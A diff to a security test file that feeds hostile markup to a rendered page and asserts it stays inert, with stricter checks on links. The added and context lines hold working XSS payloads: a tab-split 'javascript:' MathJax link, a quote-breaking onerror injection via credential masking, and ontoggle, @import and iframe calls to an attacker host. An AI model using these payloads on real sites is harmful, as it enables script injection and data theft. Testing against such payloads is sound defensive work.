@@ -72,6 +72,10 @@ def payload(evil: str, tag: str) -> str:
         f'<details open ontoggle="{pwn.format(tag + "-ontoggle")}">more</details>',
         f"<style>@import url({evil}/{tag}-style.css)</style>",
         f'<iframe src="{evil}/{tag}-iframe"></iframe>',
+        # MathJax makes a link of \\href (a browser drops the tab inside the scheme).
+        f"$\\href{{java\tscript:{pwn.format(tag + '-mathjax-href')}}}{{a formula}}$",
+        # The kernel masks a credential in what it sends; the mask swallows a quote.
+        f'![x password=](data:image/png;base64,AAAA)" onerror="{pwn.format(tag + "-mask")}" x',
     ])
 
 
@@ -149,14 +153,19 @@ def assert_inert(page: Page, attacker: Attacker, seen: list[str]) -> None:
                      .map(e => e.outerHTML.slice(0, 80)),
         scripts: all.filter(e => ['SCRIPT', 'IFRAME', 'STYLE', 'svg'].includes(e.tagName))
                     .map(e => e.tagName),
-        js_links: all.filter(e => (e.getAttribute('href') || '').trim().toLowerCase()
-                                    .startsWith('javascript:')).length,
+        js_links: all.filter(e => e.tagName.toLowerCase() === 'a' && e.href &&
+                                  !['http:', 'https:', 'mailto:'].includes(
+                                    new URL(e.href, location.href).protocol)).length,
+        server_links: all.filter(e => e.tagName.toLowerCase() === 'a' && e.href &&
+                                      new URL(e.href, location.href).host === location.host)
+                         .map(e => e.getAttribute('href')),
         remote_images: all.filter(e => e.tagName === 'IMG' &&
                                   !(e.getAttribute('src') || '').startsWith('data:')
                                   && e.getAttribute('src')).map(e => e.getAttribute('src')),
       };
     }""")
-    assert dom == {"handlers": [], "scripts": [], "js_links": 0, "remote_images": []}
+    assert dom == {"handlers": [], "scripts": [], "js_links": 0, "server_links": [],
+                   "remote_images": []}
 
 
 def test_hostile_answers_and_displays_run_nothing_and_fetch_nothing(
